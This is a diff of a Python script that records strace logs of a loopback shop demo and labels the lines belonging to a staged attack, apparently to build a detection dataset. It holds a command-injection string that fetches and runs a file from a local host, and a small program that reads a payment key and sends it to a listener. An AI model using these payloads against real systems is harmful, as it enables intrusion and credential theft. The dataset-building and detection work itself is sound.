@@ -21,10 +21,14 @@ import socket
 import subprocess
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterable, Iterator, Sequence
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import TypeAlias
 from urllib.parse import quote_plus
+
+Visit: TypeAlias = str | Callable[[], object]  # a request, or whatever else happens meanwhile
+Steps: TypeAlias = Sequence[tuple[str, bytes]]  # label, pattern of a call
 
 HERE = Path(__file__).parent
 SHOP = Path("/srv/shop")
@@ -50,6 +54,16 @@ CALLS = (
 INJECTED = (
     "x' data/orders.csv;curl -s -o /tmp/x http://127.0.0.1:9090/x;chmod 755 /tmp/x;/tmp/x;echo '"
 )
+REQUEST: Steps = [("request", rb"recvfrom\(.*%2Ftmp%2Fx")]
+SHELL: Steps = [("shell", rb'execve\((?=.*"sh", "-c").*/tmp/x')]
+STEPS: Steps = [
+    ("fetch", rb'execve\("/usr/bin/curl"|(connect|sendto)\(.*(:9090|htons\(9090\))'
+              rb'|recvfrom\(.*:9090|openat\(.*"/tmp/x", O_WRONLY|write\(\d+</tmp/x>'),
+    ("make executable", rb'execve\("/usr/bin/chmod"|fchmodat\(.*"/tmp/x"'),
+    ("run tool", rb'execve\("/tmp/x"'),
+    ("read secret", rb"read\(.*payment\.key>.* = [1-9]"),
+    ("exfiltrate", rb"(connect|sendto)\(.*(:4444|htons\(4444\))"),
+]  # fmt: skip
 PROGRAM = b"""#!/usr/bin/python3 -IS
 import socket
 key = open("/srv/shop/etc/payment.key").read()
@@ -63,28 +77,46 @@ far.close()
 def main() -> None:
     """Record both files and write what is true of them."""
     rng = random.Random(2026)
-    for folder in (SHOP, TOOL):
-        if folder.exists():
-            raise SystemExit(f"{folder} exists; it would be overwritten")
+    refuse_to_overwrite(SHOP, TOOL)
     stolen: list[bytes] = []
     for port, page in ((RATES_PORT, b"EUR,1\nCHF,0.94\n"), (TOOL_PORT, PROGRAM)):
         serve(port, http(page))
-    serve(C2_PORT, stolen.append)
+    serve(C2_PORT, lambda caller: stolen.append(caller.recv(65536)))
     try:
         build()
-        quiet, attack = ([round_(rng, jobs(n), n == ATTACKED) for n in rounds] for rounds in ROUNDS)
+        quiet, attack = (
+            [round_(rng, jobs(n), visits(rng, n == ATTACKED)) for n in rounds] for rounds in ROUNDS
+        )
     finally:
         shutil.rmtree(SHOP, ignore_errors=True)
         TOOL.unlink(missing_ok=True)
     assert any(b"not a real key" in data for data in stolen), "the attack failed"
     for name, rounds, start in (("quiet", quiet, QUIET), ("attack", attack, ATTACK)):
         lines = list(shifted(rounds, start, rng))
-        with gzip.GzipFile(HERE / "demo" / f"{name}.strace.gz", "wb", 9, mtime=0) as file:
-            file.write(b"".join(lines))
-    with (HERE / "demo" / "truth.csv").open("w", newline="") as file:
+        write_log(HERE / "demo" / f"{name}.strace.gz", lines)
+    found = truth(lines, REQUEST, SHELL, STEPS)
+    write_truth(HERE / "demo/truth.csv", "attack.strace.gz", found)
+
+
+def refuse_to_overwrite(*paths: Path) -> None:
+    """Exit if one of the paths exists."""
+    for path in paths:
+        if path.exists():
+            raise SystemExit(f"{path} exists; it would be overwritten")
+
+
+def write_log(path: Path, lines: Iterable[bytes]) -> None:
+    """Write lines as gzip; the same lines give the same bytes."""
+    with path.open("wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as file:
+        file.write(b"".join(lines))
+
+
+def write_truth(path: Path, source: str, labels: Iterable[tuple[int, str]]) -> None:
+    """Write which lines of a source are an attack."""
+    with path.open("w", newline="") as file:
         writer = csv.writer(file, lineterminator="\n")
         writer.writerow(["source", "line", "label"])
-        writer.writerows(("attack.strace.gz", number, label) for number, label in truth(lines))
+        writer.writerows((source, number, label) for number, label in labels)
 
 
 def jobs(n: int) -> list[str]:
@@ -110,7 +142,23 @@ def build() -> None:
         subprocess.run(command.split(), cwd=SHOP / "site", env=ENVIRONMENT, check=True)
 
 
-def round_(rng: random.Random, work: list[str], attacked: bool) -> list[bytes]:
+def visits(rng: random.Random, attacked: bool = False) -> list[Visit]:
+    """Return the requests of one round."""
+    found: list[Visit] = ["GET /items HTTP/1.0", "GET / HTTP/1.0", "GET /receipt HTTP/1.0"] * 2
+    found += ["GET /report?month=2026-02 HTTP/1.0"] * rng.randint(1, 2)
+    found += ["POST /order HTTP/1.0\r\n\r\nchair&40&2026-03-02"] * rng.randint(1, 3)
+    rng.shuffle(found)
+    if attacked:
+        found.insert(4, injection(INJECTED))
+    return found
+
+
+def injection(text: str) -> str:
+    """Return the request that gives the shop's shell a text."""
+    return f"GET /report?month={quote_plus(text)} HTTP/1.0"
+
+
+def round_(rng: random.Random, work: list[str], visits: Sequence[Visit]) -> list[bytes]:
     """Record one round; return its lines."""
     with (SHOP / "log/console").open("wb") as console:
         init = subprocess.Popen(
@@ -120,15 +168,9 @@ def round_(rng: random.Random, work: list[str], attacked: bool) -> list[bytes]:
         )  # fmt: skip
     while not answered("GET / HTTP/1.0"):
         time.sleep(0.05)
-    visits = ["GET /items HTTP/1.0", "GET / HTTP/1.0", "GET /receipt HTTP/1.0"] * 2
-    visits += ["GET /report?month=2026-02 HTTP/1.0"] * rng.randint(1, 2)
-    visits += ["POST /order HTTP/1.0\r\n\r\nchair&40&2026-03-02"] * rng.randint(1, 3)
-    rng.shuffle(visits)
-    if attacked:
-        visits.insert(4, f"GET /report?month={quote_plus(INJECTED)} HTTP/1.0")
     for visit in visits:
         time.sleep(rng.uniform(0.02, 0.1))
-        answered(visit)
+        visit() if callable(visit) else answered(visit)
     init.communicate(b"done\n", timeout=120)
     recorded = Path("/srv/round")
     lines = recorded.read_bytes().splitlines(keepends=True)
@@ -147,8 +189,8 @@ def answered(request: str) -> bool:
         return bool(visitor.recv(65536))
 
 
-def serve(port: int, answer: object) -> None:
-    """Serve a port of loopback in a thread."""
+def serve(port: int, talk: Callable[[socket.socket], object]) -> None:
+    """Serve a port of loopback in a thread, one caller at a time."""
     server = socket.socket()
     server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     server.bind(("127.0.0.1", port))
@@ -158,17 +200,20 @@ def serve(port: int, answer: object) -> None:
         while True:
             caller, _ = server.accept()
             with caller:
-                page = answer(caller.recv(65536))  # type: ignore[operator]
-                if page:
-                    caller.sendall(page)
+                talk(caller)
 
     threading.Thread(target=loop, daemon=True).start()
 
 
-def http(page: bytes) -> object:
+def http(page: bytes) -> Callable[[socket.socket], None]:
     """Return what answers each request with a page."""
     head = f"HTTP/1.0 200 OK\r\nContent-Length: {len(page)}\r\n\r\n".encode()
-    return lambda request: head + page
+
+    def talk(caller: socket.socket) -> None:
+        caller.recv(65536)
+        caller.sendall(head + page)
+
+    return talk
 
 
 STAMP = re.compile(rb"^(\d+ +)(\d+)\.(\d{6}) ")
@@ -189,21 +234,8 @@ def shifted(rounds: list[list[bytes]], start: datetime, rng: random.Random) -> I
             yield found[1] + text + line[found.end() :]
 
 
-def truth(lines: list[bytes]) -> Iterator[tuple[int, str]]:
-    """Return the lines of the attack's steps, from 1, by the processes its shell started.
-
-    A line counts if the call succeeded and is what the step does; that a process of the attack
-    loads its libraries does not.
-    """
-    steps = (
-        ("fetch", rb'execve\("/usr/bin/curl"|(connect|sendto)\(.*(:9090|htons\(9090\))'
-                  rb'|recvfrom\(.*:9090|openat\(.*"/tmp/x", O_WRONLY|write\(\d+</tmp/x>'),
-        ("make executable", rb'execve\("/usr/bin/chmod"|fchmodat\(.*"/tmp/x"'),
-        ("run tool", rb'execve\("/tmp/x"'),
-        ("read secret", rb"read\(.*payment\.key>.* = [1-9]"),
-        ("exfiltrate", rb"(connect|sendto)\(.*(:4444|htons\(4444\))"),
-    )  # fmt: skip
-    attackers: set[bytes] = set()
+def calls(lines: Iterable[bytes]) -> Iterator[tuple[int, bytes, bytes]]:
+    """Return the calls that succeeded: line where it ended, from 1, process, whole call."""
     begun: dict[bytes, bytes] = {}
     for number, line in enumerate(lines, 1):
         pid, _, rest = line.partition(b" ")
@@ -211,25 +243,48 @@ def truth(lines: list[bytes]) -> Iterator[tuple[int, str]]:
         if body.endswith(b"<unfinished ...>"):
             begun[pid] = body
             continue
-        whole = body
-        if body.startswith(b"<... "):
-            whole = begun.pop(pid, b"") + body
+        whole = begun.pop(pid, b"") + body if body.startswith(b"<... ") else body
         if b" = ? " in whole or (b" = -1 " in whole and b"EINPROGRESS" not in whole):
             continue
-        if b"%2Ftmp%2Fx" in whole and whole.startswith(b"recvfrom("):
-            yield number, "request"
-        if whole.startswith(b"execve(") and b'"sh", "-c"' in whole and b"/tmp/x" in whole:
-            attackers.add(pid)
-            yield number, "shell"
-        if pid not in attackers:
-            continue
-        forked = re.match(rb"(?:v?fork|clone3?)\(.*= (\d+)$", whole)
-        if forked:
-            attackers.add(forked[1])
-        for label, pattern in steps:
-            if re.match(pattern, whole):
-                yield number, label
-                break
+        yield number, pid, whole
+
+
+def truth(
+    lines: Iterable[bytes], request: Steps, entry: Steps, steps: Steps
+) -> Iterator[tuple[int, str]]:
+    """Return the lines of the attack's steps, from 1, with their labels.
+
+    A call like `request` counts whoever makes it. One like `entry` makes its process an attacker,
+    and with it all that it starts later. Of an attacker's calls those count that are like a step;
+    that it loads its libraries does not. The first pattern that matches names the step.
+    """
+    made = list(calls(lines))
+    # A child may run before strace tells that fork returned, so all forks are looked at first.
+    forks = [
+        (number, pid, child[1])
+        for number, pid, whole in made
+        if (child := re.match(rb"(?:v?fork|clone3?)\(.*= (\d+)(?:<.*>)?$", whole))
+    ]
+    since: dict[bytes, int] = {}  # the line from which on a process is an attacker
+    for number, pid, whole in made:
+        if _label(entry, whole):
+            since.setdefault(pid, number)
+    known = -1
+    while known < len(since):  # a grandchild's fork may be told of before its parent's
+        known = len(since)
+        for number, pid, started in forks:
+            if since.get(pid, number + 1) <= number:
+                since.setdefault(started, 0)
+    for number, pid, whole in made:
+        label = _label(request, whole) or _label(entry, whole)
+        if label is None and since.get(pid, number + 1) <= number:
+            label = _label(steps, whole)
+        if label:
+            yield number, label
+
+
+def _label(steps: Steps, call: bytes) -> str | None:
+    return next((label for label, pattern in steps if re.match(pattern, call)), None)
 
 
 if __name__ == "__main__":
